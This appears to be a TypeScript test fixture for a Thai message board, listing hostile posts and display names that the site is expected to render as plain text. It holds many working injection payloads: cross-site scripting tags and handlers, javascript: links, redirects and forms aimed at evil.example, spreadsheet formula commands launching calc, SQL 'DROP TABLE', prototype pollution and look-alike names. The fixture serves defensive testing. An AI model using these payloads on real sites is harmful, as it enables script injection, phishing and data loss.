/** Code injection or deception in a post. `\u202E` and similar characters reverse a line. */
export interface HostilePost {
  name: string
  title: string
  detail: string
}

const script = 'window.wasRun=1'
const both = (name: string, text: string): HostilePost => ({
  name,
  title: `ถาม ${text}`.slice(0, 150),
  detail: `ลองดูนี่ค่ะ ${text}`,
})

const markup: HostilePost[] = [
  both('a script', `<script>${script}</script>`),
  both('a script of mixed case', `<ScRiPt>${script}</sCrIpT>`),
  both('a script cut in two', `<scr<script>ipt>${script}</scr</script>ipt>`),
  both('a script that is not closed', `<script>${script}//`),
  both('a picture that fails', `<img src=x onerror=${script}>`),
  both('a picture without spaces', `<img/src=x/onerror=${script}>`),
  both('a picture in quotes', `"><img src=x onerror="${script}">`),
  both('a picture in single quotes', `'><img src=x onerror='${script}'>`),
  both('a drawing', `<svg onload=${script}>`),
  both('a drawing with a script', `<svg><script>${script}</script></svg>`),
  both('an animation', `<svg><animate onbegin=${script} attributeName=x dur=1s>`),
  both(
    'a drawing that uses another',
    `<svg><use href="data:image/svg+xml,<svg onload=${script}>"/>`,
  ),
  both('a formula', `<math><mtext></form><form><mglyph><style></math><img src onerror=${script}>`),
  both('a style that is closed', `</style><img src=x onerror=${script}>`),
  both('a script that is closed', `</script><img src=x onerror=${script}>`),
  both('a title that is closed', `</title><script>${script}</script>`),
  both('a textarea that is closed', `</textarea><script>${script}</script>`),
  both('a comment that is closed', `--><script>${script}</script><!--`),
  both('a data section', `<![CDATA[<script>${script}</script>]]>`),
  both('a frame', `<iframe srcdoc="<script>${script}</script>"></iframe>`),
  both('a frame of an address', `<iframe src="javascript:${script}"></iframe>`),
  both('an object', `<object data="javascript:${script}"></object>`),
  both('an embedded file', `<embed src="javascript:${script}">`),
  both('a base for all links', '<base href="https://evil.example/">'),
  both('a way elsewhere', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
  both('a stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'),
  both('a style', '<style>body{display:none}</style>'),
  both('a form of its own', '<form action="https://evil.example/"><input name="password"></form>'),
  both('a button of the form around it', '<button formaction="https://evil.example/">ส่ง</button>'),
  both('a field in focus', `<input autofocus onfocus=${script}>`),
  both('details that open', `<details open ontoggle=${script}>x</details>`),
  both('a film', `<video><source onerror=${script}></video>`),
  both('a body', `<body onload=${script}>`),
  both('a marquee', `<marquee onstart=${script}>x</marquee>`),
  both(
    'an element with a slot',
    `<template shadowrootmode="open"><script>${script}</script></template>`,
  ),
  both('a name that hides another', '<img name="getElementById"><form id="content"></form>'),
]

const addresses: HostilePost[] = [
  both('an address that is run', `javascript:${script}`),
  both('a link that is run', `<a href="javascript:${script}">กดที่นี่</a>`),
  both('one in Markdown', `[กดที่นี่](javascript:${script})`),
  both('a picture in Markdown', `![x](x"onerror="${script})`),
  both('an address of data', `data:text/html,<script>${script}</script>`),
  both('an address that breaks out', `https://a.example/"onmouseover="${script}`),
  both('an address in brackets', `https://a.example/<script>${script}</script>`),
  both('an address with an account', 'https://fongsai.example@evil.example/เข้าสู่ระบบ'),
  both('an address of look-alikes', 'https://fоngsai.example/login'),
  both('an address turned around', 'https://evil.example/\u202Egpj.exe'),
  both('an address without its name', '//evil.example/login'),
  both('an address of a script', 'vbscript:msgbox(1) VBSCRIPT:msgbox(1)'),
]

const deceiving: HostilePost[] = [
  both('a line turned around', '\u202Eการตกลงใหม่\u202C ของทีมงาน'),
  both('marks that nobody sees', 'ฟ\u200Bอ\u200Bง\u200Bใ\u200Bส รหัสผ่าน'),
  both('marks without end', `ซ${'\u0E4A'.repeat(80)}`),
  both('a newline in a title', 'ดี\r\nBcc: all@evil.example\r\n\r\nX'),
  both('a formula of a table', '=HYPERLINK("https://evil.example";"กด")'),
  both('a command of a table', "@SUM(1+1)*cmd|' /C calc'!A0"),
  both('a sum of a table', "+1+cmd|' /C calc'!A0"),
  both('a difference of a table', "-1+cmd|' /C calc'!A0"),
]

const programs: HostilePost[] = [
  both('a template', `{{constructor.constructor('${script}')()}}`),
  both('a template of strings', `\${${script}}`),
  both('an end of data in a script', `</script><script>${script}</script>{"@context":"x"}`),
  both('separators of lines in data', `\u2028${script}\u2029`),
  both('a prototype', '{"__proto__":{"isAdmin":true}} constructor.prototype'),
  both('an end of a statement', "'); DROP TABLE board_posts; -- ซักผ้า"),
  both('a search of its own', '" OR title:* NEAR(x y) ^ * AND NOT'),
  both('entities', '&lt;script&gt;&#x3C;img src=x onerror=window.wasRun=1&#x3E;'),
]

/** Posts that must be harmless text everywhere. */
export const hostilePosts: readonly HostilePost[] = [
  ...markup,
  ...addresses,
  ...deceiving,
  ...programs,
]

/** Names that imitate another person or try to run code. */
export const hostileNames: readonly string[] = [
  'ทีมงานฟองใส',
  'ทีม\u200Bงาน',
  'Аdmin',
  `<img src=x onerror=${script}>`,
  '"><script>x</script>',
  '=1+1',
  '@SUM(1)',
  'ผู้ดูแล\nระบบ',
  '👑 admin',
]
